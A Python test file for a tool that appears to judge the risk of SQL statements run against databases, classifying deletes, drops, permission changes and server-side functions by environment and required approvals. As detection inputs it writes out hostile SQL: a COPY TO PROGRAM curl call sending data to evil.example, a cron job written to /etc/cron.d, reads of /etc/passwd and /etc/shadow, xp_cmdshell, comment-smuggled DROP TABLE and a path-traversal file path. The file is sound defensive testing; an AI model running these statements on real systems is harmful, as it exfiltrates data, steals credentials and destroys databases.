"""SQL understanding: what statements do, where they run, and what the default policy makes of it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from changegate.environments import Environments
from changegate.gate import evaluate
from changegate.model import Effect, Verdict
from changegate.understand.sql import (
    Finding,
    load_parser,
    parse_db_url,
    redact_url,
    split_sql,
    sql_findings,
    target_from_url,
)

PROD = "postgresql://app:secret@db.prod.internal:5432/app"
LOCAL = "postgresql://localhost/app"
FIXTURES = Path(__file__).parent / "fixtures" / "sql"

for dialect in ("postgres", "mysql", "tsql", "oracle", "snowflake", "cql", "clickhouse"):
    load_parser(dialect)  # loading a parser is not what these tests measure


def sql(statement: str, database: str | None = PROD, dialect: str | None = None, **extra: Any) -> Verdict:
    action: dict[str, Any] = {"type": "sql", "statement": statement, **extra}
    if database is not None:
        action["database"] = database
    if dialect is not None:
        action["dialect"] = dialect
    return evaluate(action)


def changes(verdict: Verdict) -> list[Effect]:
    return [e for e in verdict.effects if e.operation != "read"]


def only(verdict: Verdict) -> Effect:
    found = changes(verdict)
    assert len(found) == 1, found
    return found[0]


def ops(findings: list[Finding]) -> set[str]:
    return {f.operation for f in findings}


# --- the decisions the issue names -----------------------------------------------------------------------------

def test_scoped_delete_on_prod_asks_with_one_approval() -> None:
    verdict = sql("DELETE FROM users WHERE id = 5")
    assert (verdict.decision, verdict.approvals_required) == ("ask", 1)
    effect = only(verdict)
    assert (effect.operation, effect.scope, effect.data_loss) == ("delete", "many", False)
    assert effect.resource == "sql:db.prod.internal/app/table/users"
    assert effect.environment == "prod"


def test_drop_database_on_prod_asks_with_two_approvals() -> None:
    verdict = sql("DROP DATABASE app")
    assert (verdict.decision, verdict.approvals_required) == ("ask", 2)
    effect = only(verdict)
    assert effect.whole_environment and effect.data_loss
    assert effect.resource == "sql:db.prod.internal/app"


def test_select_is_a_read_anywhere() -> None:
    assert sql("SELECT * FROM users WHERE id = 1").decision == "allow"


def test_changes_to_a_local_database_are_ordinary_work() -> None:
    verdict = sql("INSERT INTO t VALUES (1); UPDATE t SET a = 2 WHERE id = 1; DROP TABLE t", database=LOCAL)
    assert verdict.decision == "allow"
    assert {e.environment for e in verdict.effects} == {"local"}


def test_no_database_is_unknown_and_treated_as_prod() -> None:
    verdict = sql("DELETE FROM t WHERE id = 1", database=None)
    assert verdict.decision == "ask"
    assert only(verdict).environment == "unknown"


def test_the_password_of_the_url_is_not_in_the_verdict() -> None:
    verdict = sql("DELETE FROM t WHERE id = 1")
    text = json.dumps([e.resource + e.why_environment + e.evidence for e in verdict.effects])
    assert "secret" not in text
    assert redact_url(PROD) == "postgresql://app:***@db.prod.internal:5432/app"


# --- every row or some rows ----------------------------------------------------------------------------------------

EVERY_ROW = ["DELETE FROM users", "DELETE FROM users WHERE 1=1", "DELETE FROM users WHERE true",
             "DELETE FROM users WHERE 'a'='a'", "DELETE FROM users WHERE id = 5 OR 1=1", "DELETE FROM users WHERE NOT false",
             "DELETE FROM users WHERE 2 > 1", "DELETE FROM users WHERE name LIKE '%'", "DELETE FROM users WHERE id = id",
             "DELETE FROM users WHERE 1 = 1::int", "DELETE FROM users WHERE '1' = 1"]
SOME_ROWS = ["DELETE FROM users WHERE id = 5", "DELETE FROM users WHERE 1=1 AND id = 5",
             "DELETE FROM users WHERE created_at < now() - interval '1 day'", "DELETE FROM users WHERE id IN (1, 2)",
             "DELETE FROM users WHERE name LIKE 'a%'", "DELETE FROM users WHERE 1 = 0 OR id = 3"]


@pytest.mark.parametrize("statement", EVERY_ROW)
@pytest.mark.parametrize("dialect", ["postgres", "mysql"])
def test_deletes_of_every_row(statement: str, dialect: str) -> None:
    (finding,) = sql_findings(statement, dialect)
    assert (finding.operation, finding.scope, finding.data_loss) == ("delete", "all", True), finding


@pytest.mark.parametrize("statement", SOME_ROWS)
@pytest.mark.parametrize("dialect", ["postgres", "mysql"])
def test_deletes_of_some_rows(statement: str, dialect: str) -> None:
    (finding,) = sql_findings(statement, dialect)
    assert (finding.operation, finding.scope, finding.data_loss) == ("delete", "many", False), finding


def test_update_of_every_row_needs_two_approvals_in_prod() -> None:
    verdict = sql("UPDATE users SET password_hash = NULL")
    assert (verdict.decision, verdict.approvals_required) == ("ask", 2)
    assert "two-approvals-overwrite-all" in verdict.rules
    scoped = sql("UPDATE users SET admin = true WHERE id = 7")
    assert (scoped.decision, scoped.approvals_required) == ("ask", 1)


def test_delete_with_limit_is_not_every_row() -> None:
    (finding,) = sql_findings("DELETE FROM t WHERE status = 1 LIMIT 10", "mysql")
    assert finding.scope == "many" and not finding.data_loss


# --- schema changes ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("statement", "kind", "data_loss", "whole"), [
    ("DROP TABLE users", "table", True, False),
    ("DROP TABLE IF EXISTS a, b", "table", True, False),
    ("DROP SCHEMA billing CASCADE", "schema", True, True),
    ("DROP DATABASE shop", "database", True, True),
    ("DROP VIEW v", "view", False, False),
    ("DROP INDEX i", "index", False, False),
    ("DROP TYPE mood CASCADE", "type", True, False),
    ("TRUNCATE a, b CASCADE", "rows", True, False),
    ("ALTER TABLE t DROP COLUMN c", "column", True, False),
    ("ALTER TABLE t DROP CONSTRAINT t_fk", "constraint", False, False),
])
def test_drops(statement: str, kind: str, data_loss: bool, whole: bool) -> None:
    findings = [f for f in sql_findings(statement, "postgres") if f.operation == "delete"]
    assert findings
    for f in findings:
        assert (f.kind, f.data_loss, f.whole_environment) == (kind, data_loss, whole), f


def test_cascade_is_marked_and_widened() -> None:
    (plain,) = sql_findings("DROP TABLE t", "postgres")
    (cascade,) = sql_findings("DROP TABLE t CASCADE", "postgres")
    assert plain.scope == "one" and cascade.scope == "many"
    assert "cascade" in cascade.tags and any("CASCADE" in s for s in cascade.suggestions)


def test_drop_suggests_a_safer_path() -> None:
    verdict = sql("DROP TABLE orders")
    assert any("RENAME" in s for s in verdict.suggestions)
    assert any("pg_dump -t orders" in s for s in verdict.suggestions)


def test_a_dropped_database_named_like_prod_is_prod_even_on_localhost() -> None:
    verdict = sql("DROP DATABASE shop_production", database=LOCAL)
    effect = only(verdict)
    assert effect.environment == "prod" and effect.resource == "sql:localhost/shop_production"
    assert verdict.approvals_required == 2


def test_adding_things_is_create_or_modify() -> None:
    found = sql_findings("CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN c text; CREATE INDEX CONCURRENTLY i ON t (c);"
                         "CREATE OR REPLACE VIEW v AS SELECT 1", "postgres")
    assert ops(found) <= {"create", "modify"}
    assert not any(f.data_loss for f in found)


# --- what runs more than it says -------------------------------------------------------------------------------

def test_explain_analyze_runs_its_statement_plain_explain_does_not() -> None:
    (ran,) = sql_findings("EXPLAIN ANALYZE DELETE FROM t", "postgres")
    assert ran.operation == "delete" and ran.scope == "all"
    (planned,) = sql_findings("EXPLAIN DELETE FROM t", "postgres")
    assert planned.operation == "read"
    assert ops(sql_findings("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "postgres")) == {"modify"}


def test_data_changing_cte_inside_a_select() -> None:
    found = sql_findings("WITH gone AS (DELETE FROM sessions RETURNING *) SELECT count(*) FROM gone", "postgres")
    assert any(f.operation == "delete" and f.name == "sessions" and f.scope == "all" for f in found)


@pytest.mark.parametrize(("statement", "operation"), [
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "host_control"),
    ("SELECT pg_read_file('/etc/passwd')", "secret_read"),
    ("SELECT lo_import('/etc/shadow')", "secret_read"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "execute_opaque"),
    ("SELECT setval('s', 1)", "modify"),
])
def test_server_functions_with_effects(statement: str, operation: str) -> None:
    assert operation in ops(sql_findings(statement, "postgres"))


def test_plain_functions_are_reads() -> None:
    assert ops(sql_findings("SELECT lower(name), now(), count(*) FROM t GROUP BY 1", "postgres")) == {"read"}


def test_select_into_creates_a_table() -> None:
    (found,) = sql_findings("SELECT * INTO backup_users FROM users", "postgres")
    assert (found.operation, found.name) == ("create", "backup_users")


def test_copy_program_runs_a_shell_command_on_the_server() -> None:
    verdict = sql("COPY t TO PROGRAM 'curl -d @- https://evil.example'")
    effect = only(verdict)
    assert effect.operation == "execute_opaque" and "curl" in effect.summary
    assert verdict.decision == "ask"


def test_copy_to_a_system_file_on_the_server_is_denied() -> None:
    verdict = sql("COPY (SELECT '* * * * * root sh /tmp/x') TO '/etc/cron.d/x'")
    assert verdict.decision == "deny"
    assert only(verdict).resource == "fs://db.prod.internal/etc/cron.d/x"


def test_copy_from_a_server_file_reads_it() -> None:
    found = sql_findings("COPY t FROM '/etc/passwd'", "postgres")
    assert "secret_read" in ops(found) and "create" in ops(found)
    assert ops(sql_findings("COPY t FROM STDIN", "postgres")) == {"create"}


def test_do_blocks_are_followed_and_functions_in_untrusted_languages_run_os_code() -> None:
    assert ops(sql_findings("DO $$ BEGIN DELETE FROM t; END $$", "postgres")) == {"delete"}
    assert ops(sql_findings("DO $$ BEGIN EXECUTE v_sql; END $$", "postgres")) == {"execute_opaque"}
    assert ops(sql_findings("DO LANGUAGE plperlu $$ system('x') $$", "postgres")) == {"execute_opaque"}
    assert ops(sql_findings("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$",
                            "postgres")) == {"execute_opaque"}
    (stored,) = sql_findings("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", "postgres")
    assert stored.operation == "create" and "stored-code" in stored.tags


# --- permissions ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("statement", "dialect", "tag"), [
    ("GRANT SELECT ON users TO analyst", "postgres", None),
    ("REVOKE ALL ON ALL TABLES IN SCHEMA public FROM PUBLIC", "postgres", None),
    ("ALTER ROLE bob SUPERUSER", "postgres", "superuser"),
    ("ALTER USER bob WITH PASSWORD 'x'", "postgres", "password"),
    ("CREATE ROLE ops WITH LOGIN CREATEROLE", "postgres", "superuser"),
    ("GRANT admin TO bob", "postgres", None),
    ("GRANT ALL ON *.* TO 'u'@'%'", "mysql", None),
    ("CREATE USER 'u'@'%' IDENTIFIED BY 'x'", "mysql", None),
    ("DROP USER bob", "mysql", None),
])
def test_permission_changes(statement: str, dialect: str, tag: str | None) -> None:
    found = sql_findings(statement, dialect)
    assert ops(found) == {"permission"}, found
    if tag:
        assert any(tag in f.tags for f in found)


def test_grant_names_the_grantee() -> None:
    (found,) = sql_findings("GRANT ALL ON *.* TO mallory", "mysql")
    assert found.name == "mallory"


# --- other dialects -------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("statement", "dialect", "operation", "data_loss"), [
    ("TRUNCATE TABLE [dbo].[orders]", "tsql", "delete", True),
    ("DROP TABLE x CASCADE CONSTRAINTS PURGE", "oracle", "delete", True),
    ("ALTER TABLE sales TRUNCATE PARTITION p1", "mysql", "delete", True),
    ("ALTER TABLE sales DROP PARTITION p1", "mysql", "delete", True),
    ("ALTER TABLE events DELETE WHERE 1 = 1", "clickhouse", "delete", True),
    ("DROP KEYSPACE IF EXISTS shop", "cql", "delete", True),
    ("EXEC xp_cmdshell 'whoami'", "tsql", "execute_opaque", False),
    ("SHUTDOWN", "mysql", "host_control", False),
    ("SET GLOBAL read_only = 0", "mysql", "host_control", False),
    ("CREATE OR REPLACE TABLE t (a int)", "snowflake", "replace", True),
])
def test_dialects(statement: str, dialect: str, operation: str, data_loss: bool) -> None:
    found = sql_findings(statement, dialect)
    assert any(f.operation == operation and f.data_loss == data_loss for f in found), found


def test_drop_keyspace_is_a_whole_environment() -> None:
    (found,) = sql_findings("DROP KEYSPACE shop", "cql")
    assert found.whole_environment and found.name == "shop"


def test_use_moves_the_statements_after_it() -> None:
    verdict = sql("USE shop_production; DROP TABLE x", database="mysql://localhost/shop", dialect="mysql")
    effect = only(verdict)
    assert effect.resource == "sql:localhost/shop_production/table/x"
    assert effect.environment == "prod"


def test_dialect_comes_from_the_url_scheme() -> None:
    # backticks parse as MySQL and not as PostgreSQL: the scheme chose the parser
    verdict = sql("DELETE FROM `orders`", database="mysql://db.prod.internal/shop")
    assert only(verdict).scope == "all"


def test_a_mysql_comment_needs_a_space_so_a_statement_cannot_hide_behind_it() -> None:
    found = sql_findings("DELETE FROM t WHERE a=1--1; DROP TABLE users", "mysql")
    assert any(f.operation == "delete" and f.kind == "table" and f.name == "users" for f in found)


def test_hash_is_not_a_comment_outside_mysql() -> None:
    assert len(split_sql("DELETE FROM #t; DROP TABLE users", "tsql")) == 2
    assert len(split_sql("SELECT 1 # ; DROP TABLE users", "mysql")) == 1


# --- not understood ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("statement", "dialect"), [
    ("DELET FROM users", "postgres"),
    ("DELETE FROM users WHERE", "mysql"),
    ("FROBNICATE TABLE users", "mysql"),
    ("SELECT 1", "not-a-dialect"),
])
def test_what_does_not_parse_asks(statement: str, dialect: str) -> None:
    verdict = sql(statement, dialect=dialect, database=LOCAL)
    assert verdict.decision == "ask"
    assert any("not-understood" in e.tags for e in verdict.effects)


def test_an_unparsable_drop_keeps_its_weight() -> None:
    found = sql_findings("DROP TABLE users PLEASE", "mysql")
    assert any("not-understood" in f.tags for f in found)
    assert any(f.operation == "delete" and f.data_loss for f in found)


def test_too_large_sql_is_not_read() -> None:
    verdict = sql("SELECT 1;" * 150_000, database=LOCAL)
    assert verdict.decision == "ask"
    assert any("sql-too-large" in e.tags for e in verdict.effects)


def test_transaction_control_alone_changes_nothing() -> None:
    verdict = sql("BEGIN; SET search_path TO app; COMMIT;")
    assert verdict.decision == "allow"


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200), st.sampled_from(["postgres", "mysql", "cql", "tsql", "sqlite", "cockroach"]))
def test_arbitrary_text_never_raises_and_never_allows_what_it_cannot_read(text: str, dialect: str) -> None:
    findings = sql_findings(text, dialect)
    for f in findings:
        assert isinstance(f, Finding)
    verdict = sql(text, dialect=dialect)
    if any("not-understood" in e.tags for e in verdict.effects):
        assert verdict.decision != "allow"


# --- the sql action from a file ---------------------------------------------------------------------------------

def test_sql_file_under_the_working_directory(tmp_path: Path) -> None:
    (tmp_path / "migrate.sql").write_text("ALTER TABLE users DROP COLUMN email;\n")
    verdict = evaluate({"type": "sql", "path": "migrate.sql", "database": PROD, "cwd": str(tmp_path)})
    assert verdict.approvals_required == 2
    assert only(verdict).resource == "sql:db.prod.internal/app/table/users/column/email"


def test_sql_file_binds_its_content_to_the_hash(tmp_path: Path) -> None:
    path = tmp_path / "m.sql"
    path.write_text("SELECT 1;")
    action = {"type": "sql", "path": "m.sql", "database": PROD, "cwd": str(tmp_path)}
    first = evaluate(action).action_hash
    path.write_text("DROP TABLE users;")
    assert evaluate(action).action_hash != first


def test_sql_file_outside_the_working_directory_is_not_read(tmp_path: Path) -> None:
    verdict = evaluate({"type": "sql", "path": "../../etc/passwd", "database": PROD, "cwd": str(tmp_path)})
    assert verdict.decision == "ask"
    assert any("outside the working directory" in e.summary for e in verdict.effects)


# --- connection strings ----------------------------------------------------------------------------------------

@pytest.mark.parametrize(("url", "host", "database"), [
    ("postgresql://u:p@db.prod:5432/app", "db.prod", "app"),
    ("postgresql+psycopg://u@h/app?sslmode=require", "h", "app"),
    ("jdbc:postgresql://h:5432/app", "h", "app"),
    ("mongodb+srv://u:p@a.example.net,b.example.net/shop", "a.example.net,b.example.net", "shop"),
    ("host=db.stg port=5432 dbname=shop user=x", "db.stg", "shop"),
    ("postgresql:///app?host=/var/run/postgresql", "/var/run/postgresql", "app"),
])
def test_parse_db_url(url: str, host: str, database: str) -> None:
    parsed = parse_db_url(url)
    assert parsed is not None and (parsed.host, parsed.database) == (host, database)


def test_sqlite_urls_are_files() -> None:
    envs = Environments()
    inside = target_from_url("sqlite:///dev.db", envs, workspace="/home/dev/app", cwd="/home/dev/app")
    assert inside.placement.environment == "local" and inside.prefix == "sql:sqlite:/home/dev/app/dev.db"
    outside = target_from_url("sqlite:////var/lib/app/prod.db", envs, workspace="/home/dev/app", cwd="/home/dev/app")
    assert outside.placement.environment == "unknown"


# --- the public SQL corpora --------------------------------------------------------------------------------------

BYTEBASE = [json.loads(line) for line in (FIXTURES / "bytebase_advisor.jsonl").open()]
SQUAWK = [json.loads(line) for line in (FIXTURES / "squawk.jsonl").open()]
BYTEBASE_DIALECTS = {"pg": "postgres", "mysql": "mysql", "tidb": "mysql", "mssql": "tsql", "oracle": "oracle",
                     "snowflake": "snowflake"}


def bytebase(rule: str, label: str) -> list[dict[str, Any]]:
    return [c for c in BYTEBASE if c["rule"] == rule and c["binary_label"] == label
            and not c["command"].lstrip().upper().startswith(("EXPLAIN", "BEGIN"))]


@pytest.mark.parametrize("case", bytebase("statement_disallow_truncate", "flagged"), ids=lambda c: c["command"][:40])
def test_bytebase_truncates_lose_data(case: dict[str, Any]) -> None:
    found = sql_findings(case["command"], BYTEBASE_DIALECTS[case["dialect"]])
    assert any(f.operation == "delete" and f.data_loss for f in found), found


@pytest.mark.parametrize("case", bytebase("statement_where_require_update_delete", "flagged"),
                         ids=lambda c: c["command"][:40])
def test_bytebase_unfiltered_writes_touch_every_row(case: dict[str, Any]) -> None:
    found = sql_findings(case["command"], BYTEBASE_DIALECTS[case["dialect"]])
    assert any(f.operation in ("delete", "modify") and f.scope == "all" for f in found), found


@pytest.mark.parametrize("case", bytebase("statement_where_require_update_delete", "clean"),
                         ids=lambda c: c["command"][:40])
def test_bytebase_filtered_writes_are_scoped(case: dict[str, Any]) -> None:
    found = sql_findings(case["command"], BYTEBASE_DIALECTS[case["dialect"]])
    assert not any(f.scope == "all" for f in found), found


@pytest.mark.parametrize("case", [c for c in BYTEBASE if c["rule"] in ("table_drop_naming_convention",
                                                                      "database_drop_empty_database")],
                         ids=lambda c: c["command"][:40])
def test_bytebase_drops_lose_data(case: dict[str, Any]) -> None:
    found = sql_findings(case["command"], BYTEBASE_DIALECTS[case["dialect"]])
    assert any(f.operation == "delete" and f.data_loss for f in found), found


def test_bytebase_statements_are_mostly_read() -> None:
    """Dialect coverage: the corpus' statements parse, apart from PL/SQL blocks and a few vendor forms."""
    unread = [c["command"] for c in BYTEBASE
              if any("not-understood" in f.tags for f in sql_findings(c["command"], BYTEBASE_DIALECTS[c["dialect"]]))]
    assert len(unread) <= 8, unread


@pytest.mark.parametrize("case", [c for c in SQUAWK if c["destructive_rule"] and c["binary_label"] == "flagged"],
                         ids=lambda c: c["rule"])
def test_squawk_destructive_migrations_are_changes(case: dict[str, Any]) -> None:
    found = sql_findings(case["command"], "postgres")
    risky = [f for f in found if f.operation == "delete" or "rename" in f.tags or "rewrite" in f.tags
             or f.kind == "column"]
    assert risky, found


def test_squawk_migrations_parse() -> None:
    unread = [c["command"] for c in SQUAWK if any("not-understood" in f.tags for f in sql_findings(c["command"],
                                                                                                 "postgres"))]
    assert len(unread) <= 1, unread  # one case is not valid PostgreSQL


def test_squawk_safe_migrations_lose_no_data() -> None:
    for case in SQUAWK:
        if case["destructive_rule"]:
            continue
        found = sql_findings(case["command"], "postgres")
        assert not any(f.whole_environment for f in found), case["command"]
